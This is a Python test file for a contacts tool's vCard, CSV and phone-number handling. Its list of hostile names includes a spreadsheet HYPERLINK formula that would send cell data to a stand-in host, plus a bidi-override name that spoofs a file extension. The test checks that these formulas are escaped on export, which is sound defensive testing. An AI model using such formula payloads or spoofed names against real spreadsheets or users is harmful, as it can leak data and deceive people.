# SPDX-FileCopyrightText: 2026 The KORVANE developers
# SPDX-License-Identifier: GPL-3.0-or-later
"""Contacts files against independent readers and writers: Debian's vobject
for vCard and Python's csv module for CSV; phone numbers against Debian's
phonenumbers, another implementation over the same metadata as libphonenumber.
CONTACTSTOOL names the small program that imports and exports through the
contacts library, KORVANE the program."""

import csv
import io
import json
import os
import re
import subprocess
import tempfile
import unittest

import phonenumbers
import vobject
from phonenumbers import PhoneNumberFormat, PhoneNumberType

from clihome import Home

TOOL = os.environ["CONTACTSTOOL"]

# Names that need escaping, quoting, folding or more than ASCII.
BOOK = [
    {"name": "Ann", "number": "00447700900001"},
    {"name": "Smith, Ann; Jr.", "number": "00447700900002"},
    {"name": 'Quote "Q" and back\\slash', "number": "00447700900003"},
    {"name": "Ünïcödé Straße 日本 太郎 😀 " * 5 + "end", "number": "00447700900004"},
    {"name": "Zoë", "number": "004915123456789"},
]


def run_import(path, country="UK"):
    done = subprocess.run([TOOL, "import", path, country], capture_output=True, check=True, timeout=60)
    return json.loads(done.stdout)


def run_export(path, book):
    subprocess.run([TOOL, "export", path], input=json.dumps(book).encode(), check=True, timeout=60)


def run_numbers(numbers, country="UK"):
    """The rule's verdict on each number, and the book's form of each."""
    done = subprocess.run([TOOL, "numbers", country], input="\n".join(numbers).encode(), capture_output=True,
                          check=True, timeout=60)
    return json.loads(done.stdout)


def book_form(number):
    return "00" + str(number.country_code) + phonenumbers.national_significant_number(number)


def valid_in_plan(book_number):
    try:
        return phonenumbers.is_valid_number(phonenumbers.parse("+" + book_number[2:]))
    except phonenumbers.NumberParseException:
        return False


def example_mobiles():
    """Every region's example mobile number (or its general example), by region."""
    examples = {}
    for region in sorted(phonenumbers.SUPPORTED_REGIONS):
        example = (phonenumbers.example_number_for_type(region, PhoneNumberType.MOBILE)
                   or phonenumbers.example_number(region))
        if example is not None:
            examples[region] = example
    return examples


# Names made to hurt: control characters, bidi overrides and isolates,
# zero-width characters, the longest name and one more, spreadsheet formulas.
HOSTILE = ["Two\nLines", "Tab\there", " Spaced ", "bell\x07 and \x1b[31mred", "\u202eexe.txt",
           "\u2066isolated\u2069", "zero\u200bwidth", "x" * 255, "y" * 256, '=HYPERLINK("http://x"&B2,"x")',
           "+1", "@x", "-x", "'=quoted", "\tlead", "a,b;c\"d"]


def one_form(name):
    """A name as the book keeps it: runs of control characters as one space, the ends trimmed."""
    return re.sub("[\x00-\x1f\x7f-\x9f\u2028\u2029]+", " ", name).strip()


class ContactsInterop(unittest.TestCase):
    def setUp(self):
        self.dir = tempfile.TemporaryDirectory()
        self.addCleanup(self.dir.cleanup)

    def path(self, name):
        return os.path.join(self.dir.name, name)

    def test_cards_written_by_vobject_are_imported(self):
        cards = []
        people = [
            ("Ann", "Lee", None, [("HOME", "+44 20 7946 0000"), ("CELL", "07700 900123")]),
            ("Bo", "Smith, Jr.", "Bo; the \\ one", [("CELL", "+44 (0)7700-900124")]),
            ("Cy", "Müller", "Cy Müller " + "é" * 80, [("WORK", "0044 7700 900125")]),
            ("Di", "Fax", None, [("FAX", "+44 20 7946 0001")]),
        ]
        for given, family, full, phones in people:
            card = vobject.vCard()
            card.add("n").value = vobject.vcard.Name(family=family, given=given)
            card.add("fn").value = full or f"{given} {family}"
            for kind, number in phones:
                tel = card.add("tel")
                tel.value = number
                tel.type_param = kind
            card.add("note").value = "A note, with; signs\nand two lines " + "x" * 200
            cards.append(card.serialize())
        with open(self.path("cards.vcf"), "w", encoding="utf-8", newline="") as f:
            f.write("".join(cards))

        outcome = run_import(self.path("cards.vcf"))
        self.assertEqual(outcome["error"], "")
        self.assertEqual(outcome["book"], [
            {"name": "Ann Lee", "number": "00447700900123"},
            {"name": "Bo; the \\ one", "number": "00447700900124"},
            {"name": "Cy Müller " + "é" * 80, "number": "00447700900125"},
            {"name": "Di Fax", "number": "00442079460001"},
        ])
        self.assertEqual(outcome["skipped"], [])
        self.assertEqual(outcome["summary"], "Imported 4 recipients.")

    def test_exported_cards_are_read_by_vobject(self):
        run_export(self.path("book.vcf"), BOOK)
        with open(self.path("book.vcf"), "rb") as f:
            raw = f.read()
        for line in raw.split(b"\r\n"):
            self.assertLessEqual(len(line), 75)
            line.decode("utf-8")  # each folded line is whole UTF-8
        read = []
        for card in vobject.readComponents(raw.decode("utf-8")):
            self.assertEqual(card.version.value, "4.0")
            self.assertEqual(card.tel.params["TYPE"], ["cell"])
            read.append({"name": card.fn.value, "number": card.tel.value})
        self.assertEqual(read, BOOK)

    def test_csv_written_by_the_csv_module_is_imported(self):
        rows = [(entry["name"], entry["number"]) for entry in BOOK]
        rows.append(("Two\nlines", "+44 7700 900199"))
        for delimiter in (",", ";"):
            with self.subTest(delimiter=delimiter):
                with open(self.path("book.csv"), "w", encoding="utf-8-sig", newline="") as f:
                    writer = csv.writer(f, delimiter=delimiter)
                    writer.writerow(["Name", "Number"])
                    writer.writerows(rows)
                outcome = run_import(self.path("book.csv"))
                self.assertEqual(outcome["error"], "")
                self.assertEqual(outcome["book"], BOOK + [{"name": "Two lines", "number": "00447700900199"}])

    def test_exported_csv_is_read_by_the_csv_module(self):
        run_export(self.path("book.csv"), BOOK)
        with open(self.path("book.csv"), encoding="utf-8", newline="") as f:
            rows = list(csv.reader(f, strict=True))
        self.assertEqual(rows, [["Name", "Number"]] + [[e["name"], e["number"]] for e in BOOK])

    def test_round_trip_through_both_formats(self):
        for name in ("book.vcf", "book.csv"):
            with self.subTest(file=name):
                run_export(self.path(name), BOOK)
                self.assertEqual(run_import(self.path(name))["book"], BOOK)



class NumbersInterop(unittest.TestCase):
    def test_the_rule_accepts_what_the_plans_find_valid(self):
        numbers = []
        for example in example_mobiles().values():
            whole = book_form(example)
            numbers += [whole, whole[:-1], whole[:-2]]
        verdicts = run_numbers(numbers)
        # Widened, never narrowed: 14 to 17 characters pass as before.
        expected = {n: (valid_in_plan(n) or len(n) >= 14) and len(n) <= 17 for n in numbers}
        self.assertEqual({n: v["rule"] for n, v in zip(numbers, verdicts)}, expected)
        self.assertGreater(sum(expected.values()), 240)

    def test_numbers_as_people_write_them(self):
        countries = {"UK": "GB", "Ireland": "IE", "Australia": "AU", "Germany": "DE", "Switzerland": "CH",
                     "Austria": "AT", "France": "FR", "Belgium": "BE", "Spain": "ES", "Portugal": "PT"}
        examples = example_mobiles()
        for country, region in countries.items():
            with self.subTest(country):
                home = examples[region]
                # The home country's numbers nationally, and every region's in its international and URI forms.
                written = [phonenumbers.format_number(home, PhoneNumberFormat.NATIONAL)]
                expected = [book_form(home)]
                for example in examples.values():
                    written += [phonenumbers.format_number(example, PhoneNumberFormat.INTERNATIONAL),
                                phonenumbers.format_number(example, PhoneNumberFormat.RFC3966)]
                    whole = book_form(example) if len(book_form(example)) <= 17 else ""
                    expected += [whole, whole]
                self.assertEqual([v["number"] for v in run_numbers(written, country)], expected)


class HostileNames(unittest.TestCase):
    """Names go through contacts add, export, import into an empty book and export again, in both formats, and
    come back as the book holds them."""

    def setUp(self):
        self.home = Home()
        self.addCleanup(self.home.folder.cleanup)

    def test_names_come_back_as_the_book_holds_them(self):
        for i, name in enumerate(HOSTILE):
            done = self.home.run("contacts", "add", "--", name, "00447700900%03d" % i)
            if len(name) > 255:
                self.assertEqual((done.returncode, done.stderr.decode()),
                                 (1, "The name has 256 characters; a recipient's name has 255 at most.\n"))
            else:
                self.assertEqual((done.returncode, done.stderr), (0, b""), name)
        book = self.home.book()
        self.assertEqual([e["name"] for e in book], [one_form(n) for n in HOSTILE if len(n) <= 255])

        for name in ("book.vcf", "book.csv"):
            with self.subTest(file=name):
                first = os.path.join(self.home.folder.name, name)
                self.home.korvane("contacts", "export", first)
                other = Home()
                self.addCleanup(other.folder.cleanup)
                other.korvane("contacts", "import", first)
                self.assertEqual(other.book(), book)
                second = os.path.join(other.folder.name, name)
                other.korvane("contacts", "export", second)
                with open(first, "rb") as a, open(second, "rb") as b:
                    self.assertEqual(a.read(), b.read())

        with open(os.path.join(self.home.folder.name, "book.vcf"), encoding="utf-8") as f:
            self.assertEqual([card.fn.value for card in vobject.readComponents(f.read())], [e["name"] for e in book])
        with open(os.path.join(self.home.folder.name, "book.csv"), encoding="utf-8", newline="") as f:
            cells = [row[0] for row in csv.reader(f)][1:]
        # What a spreadsheet would run as a formula has an apostrophe in front.
        self.assertEqual([cell for cell in cells if cell[0] in "=+-@'\t\r"],
                         ["'" + name for name in ('=HYPERLINK("http://x"&B2,"x")', "+1", "@x", "-x", "'=quoted")])


if __name__ == "__main__":
    unittest.main()
